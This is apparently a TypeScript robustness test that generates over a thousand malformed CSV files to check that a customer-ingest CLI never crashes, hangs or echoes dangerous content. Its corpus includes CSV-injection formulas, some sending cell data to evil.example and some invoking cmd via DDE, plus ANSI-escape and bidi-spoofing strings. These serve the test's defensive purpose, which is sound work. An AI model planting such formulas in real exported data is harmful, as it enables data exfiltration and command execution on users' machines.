/**
 * Hostile CSVs: a generated corpus of malformed inputs (written to a temp dir at run time, never
 * committed), each fed to ingest. Every one must end with a report (exit 0: rows accepted or
 * rejected with reasons) or a clear input error (exit 2), never a crash, a stack trace or a hang;
 * a failed real ingest must leave nothing behind (no batch, no ledger record, no job); memory
 * must stay bounded for a 50 MB field and a million empty lines; and whatever the project echoes
 * back must not be a live spreadsheet formula or a terminal escape.
 */
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { Writable } from 'node:stream';
import { CsvFileError } from '../../src/customers/errors.js';
import { createLogger } from '../../src/log.js';
import { ingestFile } from '../../src/producers/ingest.js';
import { REQUIRED_COLUMNS } from '../../src/customers/columns.js';
import { COLUMNS as COLS, HEADER, TEMPLATE, csvCell, customerFields } from '../../fixtures/customers.js';
import { ROOT, dropPrefix, openStore, prng, type Store } from './harness.js';
import { cliArgs } from '../built-cli.js';

export interface HostileInput {
  name: string;
  category: string;
  file: string;
  /** Large inputs: their peak memory is measured through the real CLI. */
  big?: boolean;
}

function goodRow(i: number, over: Record<string, string> = {}): string[] {
  const v = customerFields(`h${i}`, 2000 + i, { brand_name: `Dana Lopez Studio ${i}`, ...over });
  return COLS.map((c) => v[c] ?? '');
}

const line = (cells: string[], sep = ',') => cells.map(csvCell).join(sep);
const csvOf = (rows: string[][], eol = '\n', header: string[] = COLS) => [line(header), ...rows.map((r) => line(r))].join(eol) + eol;

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+1', '+1+1', '-2+3', '@SUM(1,2)', '\t=cmd|\' /C calc\'!A0', '\r=1+1', '=cmd|\'/C notepad\'!A1', "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")", '=DDE("cmd";"/C calc";"x")'];

/** The corpus: at least `min` inputs (default 1,000), a few big ones, reproducible from `seed`. */
export function generateCorpus(dir: string, opts: { seed?: number; min?: number; big?: boolean } = {}): HostileInput[] {
  const rand = prng(opts.seed ?? 1);
  const out: HostileInput[] = [];
  let n = 0;
  const add = (category: string, content: string | Buffer, extra: Partial<HostileInput> = {}) => {
    const name = `${String(n++).padStart(4, '0')}-${category}`;
    const file = join(dir, `${name}.csv`);
    writeFileSync(file, content);
    out.push({ name, category, file, ...extra });
  };
  const rows3 = [goodRow(1), goodRow(2), goodRow(3)];
  const valid = csvOf(rows3);

  // Empty and near-empty files.
  for (const c of ['', '\uFEFF', '\n', '\r\n', '\n\n\n', '   ', '\t', ',', ',,,,\n', '"', '""', '"\n"', '\uFEFF\n']) add('empty', c);
  add('header-only', `${HEADER}\n`);
  add('header-only-no-eol', HEADER);
  add('header-only-crlf', `${HEADER}\r\n`);
  add('header-only-bom', `\uFEFF${HEADER}\n`);
  add('header-then-blank-lines', `${HEADER}\n\n\n\n`);
  add('header-then-empty-cells', `${HEADER}\n${','.repeat(COLS.length - 1)}\n`);

  // Wrong delimiters, with and without BOM and quotes.
  for (const sep of [';', '\t', '|', ' ', ':', '^']) {
    for (const bom of ['', '\uFEFF']) {
      add('wrong-delimiter', bom + [COLS.join(sep), ...rows3.map((r) => r.join(sep))].join('\n') + '\n');
      add('wrong-delimiter-quoted', bom + [COLS.map((c) => `"${c}"`).join(sep), ...rows3.map((r) => r.map((c) => `"${c}"`).join(sep))].join('\n') + '\n');
    }
  }
  // Header ok, rows with another delimiter.
  add('rows-wrong-delimiter', `${HEADER}\n${rows3.map((r) => r.join(';')).join('\n')}\n`);

  // Line ends: CRLF, CR, mixed, none at the end, LF+CR.
  for (const eol of ['\r\n', '\r', '\n\r', '\r\r\n']) add('line-ends', csvOf(rows3, eol));
  add('line-ends-mixed', [HEADER, line(rows3[0]!), line(rows3[1]!), line(rows3[2]!)].join('\n') .replace(/\n/, '\r\n').replace(/\n(?!.*\n)/, '\r') + '\n');
  add('no-final-eol', valid.trimEnd());

  // BOMs: UTF-8 (once, twice), UTF-16 LE/BE, UTF-32, a BOM in the middle.
  add('bom-utf8', `\uFEFF${valid}`);
  add('bom-twice', `\uFEFF\uFEFF${valid}`);
  add('bom-utf16le', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(valid, 'utf16le')]));
  add('bom-utf16be', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(valid, 'utf16le').swap16()]));
  add('utf16le-no-bom', Buffer.from(valid, 'utf16le'));
  add('bom-utf32le', Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(valid)]));
  add('bom-mid-file', `${HEADER}\n\uFEFF${line(rows3[0]!)}\n`);

  // Missing required columns (each), and every pair of the first few.
  for (const c of REQUIRED_COLUMNS) {
    const keep = COLS.map((x, i) => [x, i] as const).filter(([x]) => x !== c);
    add('missing-column', csvOf(rows3.map((r) => keep.map(([, i]) => r[i]!)), '\n', keep.map(([x]) => x)));
  }
  for (let a = 0; a < 5; a++) {
    for (let b = a + 1; b < 6; b++) {
      const drop = new Set([COLS[a], COLS[b]]);
      const keep = COLS.map((x, i) => [x, i] as const).filter(([x]) => !drop.has(x));
      add('missing-columns', csvOf(rows3.map((r) => keep.map(([, i]) => r[i]!)), '\n', keep.map(([x]) => x)));
    }
  }
  // Duplicated header columns (each), with equal and with different values, and case/space variants.
  for (let i = 0; i < COLS.length; i++) {
    add('duplicated-column', csvOf(rows3.map((r) => [...r, r[i]!]), '\n', [...COLS, COLS[i]!]));
    add('duplicated-column-variant', csvOf(rows3.map((r) => [...r, 'other']), '\n', [...COLS, ` ${COLS[i]!.toUpperCase()} `]));
  }
  // Extra columns: named, blank-named, formula-named, very many; rows longer or shorter than the header.
  add('extra-columns', csvOf(rows3.map((r) => [...r, 'x', 'y']), '\n', [...COLS, 'notes', 'internal_ref']));
  add('extra-blank-header-cells', csvOf(rows3.map((r) => [...r, '', '']), '\n', [...COLS, '', '']));
  add('extra-formula-header', csvOf(rows3.map((r) => [...r, 'x']), '\n', [...COLS, '=HYPERLINK("http://evil.example","x")']));
  add('extra-control-header', csvOf(rows3.map((r) => [...r, 'x']), '\n', [...COLS, 'evil\u001b[2J\u001b[31mred']));
  add('many-columns', csvOf(rows3.map((r) => [...r, ...Array.from({ length: 5000 }, () => 'v')]), '\n', [...COLS, ...Array.from({ length: 5000 }, (_, i) => `extra_${i}`)]));
  add('many-duplicated-unknown', csvOf(rows3, '\n', COLS).replace(HEADER, `${HEADER},${Array.from({ length: 3000 }, () => 'dup').join(',')}`));
  add('long-header-name', csvOf(rows3.map((r) => [...r, 'x']), '\n', [...COLS, 'n'.repeat(200_000)]));
  for (let k = 1; k <= 5; k++) {
    add('row-extra-cells', csvOf([goodRow(1), [...goodRow(2), ...Array.from({ length: k }, () => 'extra')], goodRow(3)]));
    add('row-missing-cells', csvOf([goodRow(1), goodRow(2).slice(0, COLS.length - k), goodRow(3)]));
  }

  // Unbalanced quotes in the header, in rows, at the very end; quote inside an unquoted field.
  const lines = valid.trimEnd().split('\n');
  for (let li = 0; li < lines.length; li++) {
    for (const pos of [0, 5, 20, -1]) {
      const l = lines[li]!;
      const at = pos < 0 ? l.length : Math.min(pos, l.length);
      add('unbalanced-quote', [...lines.slice(0, li), l.slice(0, at) + '"' + l.slice(at), ...lines.slice(li + 1)].join('\n') + '\n');
    }
  }
  add('quote-never-closed-long', `${HEADER}\n"${'x'.repeat(3 * 1024 * 1024)}\n`);
  add('bad-closing-quote', `${HEADER}\n${line(goodRow(1)).replace('Dana', '"Dana"x')}\n`);
  add('quotes-in-unquoted', `${HEADER}\n${line(goodRow(1)).replace('Dana', 'Da"na')}\n`);
  add('quoted-newlines', csvOf([goodRow(1, { street: '123 Market St\nSuite 5' }), goodRow(2, { brand_name: 'A, B and "C"' })]));

  // Invalid UTF-8: in the header, in a cell, overlong forms, lone surrogates, truncated sequences.
  const badBytes = [[0xff], [0xc3, 0x28], [0xe2, 0x28, 0xa1], [0xf0, 0x28, 0x8c, 0x28], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xe2, 0x82], [0xf8, 0x88, 0x80, 0x80, 0x80], [0x80], [0xfe]];
  for (const b of badBytes) {
    add('invalid-utf8-header', Buffer.concat([Buffer.from('customer_id,first_'), Buffer.from(b), Buffer.from(valid.slice('customer_id,first_'.length))]));
    add('invalid-utf8-cell', Buffer.concat([Buffer.from(`${HEADER}\nh1,Da`), Buffer.from(b), Buffer.from(`na,${line(goodRow(1)).split(',').slice(2).join(',')}\n`)]));
    add('invalid-utf8-id', Buffer.concat([Buffer.from(`${HEADER}\nh`), Buffer.from(b), Buffer.from(`,${line(goodRow(1)).split(',').slice(1).join(',')}\n`)]));
  }
  add('latin1-file', Buffer.from(csvOf([goodRow(1, { first_name: 'José', city: 'San José' })]), 'latin1'));

  // Control characters: every C0 and DEL, in a name, an id, an address, the header.
  for (let c = 0; c < 32; c++) {
    if (c === 10 || c === 13) continue;
    const ch = String.fromCharCode(c);
    add('control-in-name', csvOf([goodRow(1, { first_name: `Da${ch}na` }), goodRow(2)]));
    add('control-in-id', csvOf([goodRow(1, { customer_id: `h${ch}1` }), goodRow(2)]));
    add('control-in-street', csvOf([goodRow(1, { street: `12${ch}3 Market St` })]));
  }
  add('control-del', csvOf([goodRow(1, { brand_name: 'Dana\u007f Studio' })]));
  add('control-ansi', csvOf([goodRow(1, { first_name: '\u001b[2J\u001b[1;1H\u001b[31mHACKED' })]));
  add('control-bidi', csvOf([goodRow(1, { brand_name: 'Studio \u202egnp.exe' })]));
  add('nul-in-header', `customer_id\u0000,${HEADER.slice('customer_id,'.length)}\n${line(goodRow(1))}\n`);
  add('nul-everywhere', valid.split('').join('\u0000'));

  // Formula-looking cells in every column, each formula.
  for (const f of FORMULAS) {
    for (const c of COLS) add('formula-cell', csvOf([goodRow(1, { [c]: f }), goodRow(2)]));
  }
  add('formula-id-valid-looking', csvOf([goodRow(1, { customer_id: '-1' }), goodRow(2, { customer_id: '+1' })]));

  // Binary garbage: random bytes of several sizes; random bytes after a valid header; an image header.
  for (let k = 0; k < 80; k++) {
    const len = [1, 7, 64, 512, 4096, 65536][k % 6]!;
    add('binary', Buffer.from(Array.from({ length: len }, () => Math.floor(rand() * 256))));
  }
  for (let k = 0; k < 20; k++) add('binary-after-header', Buffer.concat([Buffer.from(`${HEADER}\n`), Buffer.from(Array.from({ length: 2048 }, () => Math.floor(rand() * 256)))]));
  add('png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]));
  add('zip', Buffer.from([0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0, 8, 0]));
  add('xlsx-looking', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('[Content_Types].xml')]));
  add('html', '<html><body><table><tr><td>customer_id</td></tr></table></body></html>\n');
  add('json', JSON.stringify([{ customer_id: 'h1' }]));

  // Rows: blank and whitespace rows, empty cells only, trailing commas, very long cells (under the record limit).
  add('blank-rows-between', `${HEADER}\n\n${line(goodRow(1))}\n   \n\n${line(goodRow(2))}\n`);
  add('whitespace-rows', `${HEADER}\n${' ,'.repeat(COLS.length - 1)} \n${line(goodRow(1))}\n`);
  add('long-cell-100k', csvOf([goodRow(1, { brand_name: 'B'.repeat(100_000) }), goodRow(2)]));
  add('long-id', csvOf([goodRow(1, { customer_id: 'i'.repeat(10_000) })]));
  add('duplicate-ids', csvOf([goodRow(1), goodRow(1), goodRow(2)]));

  // Random mutations of a valid file until the minimum count: delete, insert, swap or flip bytes.
  const base = Buffer.from(csvOf([goodRow(1), goodRow(2), goodRow(3), goodRow(4)]));
  const specials = [0x22, 0x2c, 0x0a, 0x0d, 0x00, 0xff, 0x3d, 0x3b, 0x09, 0xef, 0xbb, 0xbf];
  const min = opts.min ?? 1000;
  const reserve = opts.big === false ? 0 : 4;
  while (out.length < min - reserve) {
    const b = Buffer.from(base);
    const ops = 1 + Math.floor(rand() * 6);
    let arr = [...b];
    for (let k = 0; k < ops; k++) {
      const at = Math.floor(rand() * arr.length);
      const r = rand();
      if (r < 0.3) arr.splice(at, 1 + Math.floor(rand() * 5));
      else if (r < 0.6) arr.splice(at, 0, specials[Math.floor(rand() * specials.length)]!);
      else if (r < 0.8) arr[at] = Math.floor(rand() * 256);
      else {
        const at2 = Math.floor(rand() * arr.length);
        [arr[at], arr[at2]] = [arr[at2]!, arr[at]!];
      }
    }
    arr = arr.filter((x) => x !== undefined);
    add('mutation', Buffer.from(arr));
  }

  if (opts.big !== false) {
    // A 50 MB single field (unquoted, then quoted), and a million empty lines (after and before the header).
    const big = 50 * 1024 * 1024;
    add('field-50mb-unquoted', Buffer.concat([Buffer.from(`${HEADER}\nh1,`), Buffer.alloc(big, 0x61), Buffer.from(`,${line(goodRow(1)).split(',').slice(2).join(',')}\n`)]), { big: true });
    add('field-50mb-quoted', Buffer.concat([Buffer.from(`${HEADER}\nh1,"`), Buffer.alloc(big, 0x61), Buffer.from(`",${line(goodRow(1)).split(',').slice(2).join(',')}\n`)]), { big: true });
    add('empty-lines-1m', `${HEADER}\n${'\n'.repeat(1_000_000)}${line(goodRow(1))}\n`, { big: true });
    add('empty-lines-1m-before-header', `${'\n'.repeat(1_000_000)}${HEADER}\n${line(goodRow(1))}\n`, { big: true });
  }
  return out;
}

export type Outcome =
  | { kind: 'report'; accepted: number; rejected: number; maxReasonLength: number }
  | { kind: 'input-error'; message: string }
  | { kind: 'crash'; message: string }
  | { kind: 'timeout' };

const quiet = createLogger('silent', new Writable({ write: (_c, _e, cb) => cb() }));

async function withTimeout<T>(p: Promise<T>, ms: number): Promise<T | 'timeout'> {
  let t: NodeJS.Timeout | undefined;
  const timer = new Promise<'timeout'>((r) => {
    t = setTimeout(() => r('timeout'), ms);
  });
  try {
    return await Promise.race([p, timer]);
  } finally {
    clearTimeout(t);
  }
}

/** One input through ingestFile, in this process. */
export async function ingestInProcess(store: Store, file: string, templatePath: string, batchId: string, dryRun: boolean, timeoutMs: number): Promise<Outcome> {
  try {
    const r = await withTimeout(ingestFile({ ledger: store.ledger, queues: store.queues, log: quiet }, file, { batchId, templatePath, dryRun }), timeoutMs);
    if (r === 'timeout') return { kind: 'timeout' };
    const rep = r;
    return { kind: 'report', accepted: rep.accepted, rejected: rep.rejected.length, maxReasonLength: Math.max(0, ...rep.rejected.map((x) => x.reason.length)) };
  } catch (err) {
    if (err instanceof CsvFileError) return { kind: 'input-error', message: err.message };
    return { kind: 'crash', message: err instanceof Error ? `${err.name}: ${err.message}\n${err.stack ?? ''}` : String(err) };
  }
}

/** What a failed real ingest must leave behind: nothing. */
export async function leftovers(store: Store, batchId: string): Promise<string[]> {
  const found: string[] = [];
  if (await store.ledger.batchExists(batchId)) found.push('batch record');
  if ((await store.ledger.batchSize(batchId)) > 0) found.push('batch customers');
  const jobs = await store.queues['starter-profile'].getJobs(['waiting', 'delayed', 'active', 'prioritized'], 0, 10_000);
  const ours = jobs.filter((j) => (j.data as { batchId?: string }).batchId === batchId);
  if (ours.length) found.push(`${ours.length} starter-profile jobs`);
  return found;
}

export interface CliOutcome {
  status: number | null;
  signal: string | null;
  stdout: string;
  stderr: string;
  ms: number;
  /** Peak resident memory of the child (VmHWM), in MiB, sampled while it ran. */
  peakRssMiB: number;
  timedOut: boolean;
}

/** The real CLI, as an operator runs it; VmHWM polled from /proc while it runs. */
export async function runCli(args: string[], env: NodeJS.ProcessEnv, timeoutMs: number): Promise<CliOutcome> {
  const started = Date.now();
  const child = spawn(process.execPath, cliArgs(...args), { cwd: ROOT, env, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  // Keep only the first 64 KiB: the point is that a message stays short, not to buffer a flood.
  child.stdout.on('data', (b: Buffer) => (stdout = (stdout + b.toString()).slice(0, 65536)));
  child.stderr.on('data', (b: Buffer) => (stderr = (stderr + b.toString()).slice(0, 65536)));
  let peakKiB = 0;
  const sample = () => {
    try {
      const m = /VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
      if (m) peakKiB = Math.max(peakKiB, Number(m[1]));
    } catch {
      /* exited */
    }
  };
  const poll = setInterval(sample, 20);
  let timedOut = false;
  const killer = setTimeout(() => {
    timedOut = true;
    child.kill('SIGKILL');
  }, timeoutMs);
  const [status, signal] = (await once(child, 'exit')) as [number | null, string | null];
  clearInterval(poll);
  clearTimeout(killer);
  return { status, signal, stdout, stderr, ms: Date.now() - started, peakRssMiB: Math.round(peakKiB / 1024), timedOut };
}

/**
 * A formula a spreadsheet would evaluate, echoed as a cell of its own: a token starting with = or @
 * followed by a name or a parenthesis, outside the double quotes reasons put around echoed values.
 */
export function liveFormula(text: string): boolean {
  return /(?:^|[\s,])[=@][A-Za-z(]/m.test(text.replace(/"[^"\n]*"/g, '""'));
}

/** A stack trace or an internal error leaking to the user. */
export function looksLikeCrash(text: string): boolean {
  return /\n\s+at .+\(.+:\d+:\d+\)|\bat (?:async )?[\w.<>]+ \(|TypeError|ReferenceError|RangeError|SyntaxError: Unexpected|Unhandled|node:internal/.test(text);
}

export interface HostileResult {
  run: 'hostile-csv';
  at: string;
  seed: number;
  inputs: number;
  byCategory: Record<string, number>;
  inProcess: { reports: number; inputErrors: number; crashes: Array<{ name: string; message: string }>; timeouts: string[]; longMessages: string[] };
  realIngest: { tried: number; failedWithLeftovers: Array<{ name: string; leftovers: string[] }>; okWithMismatch: string[] };
  cli: Array<{ name: string; status: number | null; ms: number; peakRssMiB: number; problem: string | null; firstLine: string }>;
  peakRssMiB: Record<string, number>;
  durationMs: number;
}

export interface HostileOptions {
  seed: number;
  min: number;
  /** How many inputs also go through a real (non-dry) ingest. */
  realIngest: number;
  /** How many inputs go through the real CLI (the big ones always do). */
  cli: number;
  perInputTimeoutMs: number;
  cliTimeoutMs: number;
  redisUrl: string;
  big?: boolean;
  log?: (l: string) => void;
}

export async function runHostile(o: HostileOptions): Promise<HostileResult> {
  const say = o.log ?? (() => undefined);
  const started = Date.now();
  const dir = mkdtempSync(join(tmpdir(), 'a2p-hostile-'));
  const prefix = `{hostile-${Date.now().toString(36)}}`;
  const store = openStore(o.redisUrl, prefix);
  try {
    const corpusDir = join(dir, 'corpus');
    mkdirSync(corpusDir);
    const tpl = join(dir, 'template.json');
    writeFileSync(tpl, JSON.stringify(TEMPLATE));
    const inputs = generateCorpus(corpusDir, { seed: o.seed, min: o.min, big: o.big });
    say(`${inputs.length} inputs generated in ${corpusDir}`);
    const res: HostileResult = {
      run: 'hostile-csv',
      at: new Date().toISOString(),
      seed: o.seed,
      inputs: inputs.length,
      byCategory: {},
      inProcess: { reports: 0, inputErrors: 0, crashes: [], timeouts: [], longMessages: [] },
      realIngest: { tried: 0, failedWithLeftovers: [], okWithMismatch: [] },
      cli: [],
      peakRssMiB: {},
      durationMs: 0,
    };
    for (const i of inputs) res.byCategory[i.category] = (res.byCategory[i.category] ?? 0) + 1;

    // 1. Every input, dry run, in this process.
    for (const [k, input] of inputs.entries()) {
      const out = await ingestInProcess(store, input.file, tpl, `dry-${k}`, true, o.perInputTimeoutMs);
      if (out.kind === 'report') {
        res.inProcess.reports += 1;
        if (out.maxReasonLength > 2000) res.inProcess.longMessages.push(`${input.name}: a reason of ${out.maxReasonLength} characters`);
      } else if (out.kind === 'input-error') {
        res.inProcess.inputErrors += 1;
        if (out.message.length > 2000) res.inProcess.longMessages.push(`${input.name}: a message of ${out.message.length} characters`);
      } else if (out.kind === 'timeout') res.inProcess.timeouts.push(input.name);
      else res.inProcess.crashes.push({ name: input.name, message: out.message.slice(0, 500) });
    }
    say(`in-process dry runs: ${JSON.stringify({ reports: res.inProcess.reports, inputErrors: res.inProcess.inputErrors, crashes: res.inProcess.crashes.length, timeouts: res.inProcess.timeouts.length })}`);

    // 2. A spread of inputs through a real ingest: a failure leaves nothing; a success enqueues exactly the accepted rows.
    const step = Math.max(1, Math.floor(inputs.length / Math.max(1, o.realIngest)));
    for (let k = 0; k < inputs.length && res.realIngest.tried < o.realIngest; k += step) {
      const input = inputs[k]!;
      if (input.big) continue;
      const batchId = `real-${k}`;
      const out = await ingestInProcess(store, input.file, tpl, batchId, false, o.perInputTimeoutMs);
      res.realIngest.tried += 1;
      if (out.kind === 'report') {
        const size = await store.ledger.batchSize(batchId);
        const jobs = (await store.queues['starter-profile'].getJobs(['waiting', 'delayed', 'prioritized'], 0, 10_000)).filter((j) => (j.data as { batchId?: string }).batchId === batchId);
        if (size !== out.accepted || jobs.length !== out.accepted) res.realIngest.okWithMismatch.push(`${input.name}: accepted ${out.accepted}, ledger ${size}, jobs ${jobs.length}`);
      } else {
        const left = await leftovers(store, batchId);
        if (left.length) res.realIngest.failedWithLeftovers.push({ name: input.name, leftovers: left });
      }
    }
    say(`real ingests: ${res.realIngest.tried}`);

    // 3. The real CLI for a representative subset (one per category first) and every big input, memory measured.
    const env = { ...process.env, REDIS_URL: o.redisUrl, QUEUE_PREFIX: prefix, LOG_LEVEL: 'warn' };
    // One input of each of `cli` categories spread over the corpus (the first of each), plus every big one.
    const firstOf = new Map<string, HostileInput>();
    for (const i of inputs) if (!i.big && !firstOf.has(i.category)) firstOf.set(i.category, i);
    const cats = [...firstOf.values()];
    const pick = Math.min(o.cli, cats.length);
    const chosen = [...Array.from({ length: pick }, (_, k) => cats[Math.floor((k * cats.length) / pick)]!), ...inputs.filter((i) => i.big)];
    for (const input of chosen) {
      const r = await runCli(['ingest', input.file, '--dry-run', '--template', tpl, '--batch', `cli-${input.name}`], env, o.cliTimeoutMs);
      let problem: string | null = null;
      if (r.timedOut) problem = 'hang (killed at the timeout)';
      else if (r.status !== 0 && r.status !== 2) problem = `exit ${r.status} ${r.signal ?? ''}`;
      else if (r.status === 2 && !/^a2p-onboard: /m.test(r.stderr)) problem = 'exit 2 without a message';
      else if (looksLikeCrash(r.stderr) || looksLikeCrash(r.stdout)) problem = 'stack trace or internal error in the output';
      else if (r.stderr.length + r.stdout.length > 60_000) problem = 'output flood';
      // eslint-disable-next-line no-control-regex
      else if (/\u001b/.test(r.stdout + r.stderr)) problem = 'terminal escape echoed';
      else if (liveFormula(r.stdout + r.stderr)) problem = 'formula echoed without a leading quote';
      res.cli.push({ name: input.name, status: r.status, ms: r.ms, peakRssMiB: r.peakRssMiB, problem, firstLine: (r.status === 2 ? r.stderr : r.stdout).split('\n')[0]!.slice(0, 200) });
      if (input.big) res.peakRssMiB[input.category] = r.peakRssMiB;
    }
    // The baseline: a small valid file, for comparison.
    const small = join(dir, 'small.csv');
    writeFileSync(small, `${HEADER}\n${line(goodRow(1))}\n`);
    const base = await runCli(['ingest', small, '--dry-run', '--template', tpl, '--batch', 'cli-baseline'], env, o.cliTimeoutMs);
    res.peakRssMiB['baseline-one-row'] = base.peakRssMiB;
    say(`CLI: ${res.cli.length} inputs; peak RSS ${JSON.stringify(res.peakRssMiB)}`);
    res.durationMs = Date.now() - started;
    return res;
  } finally {
    await dropPrefix(store.redis, prefix).catch(() => undefined);
    await store.close();
    rmSync(dir, { recursive: true, force: true });
    await sleep(0);
  }
}

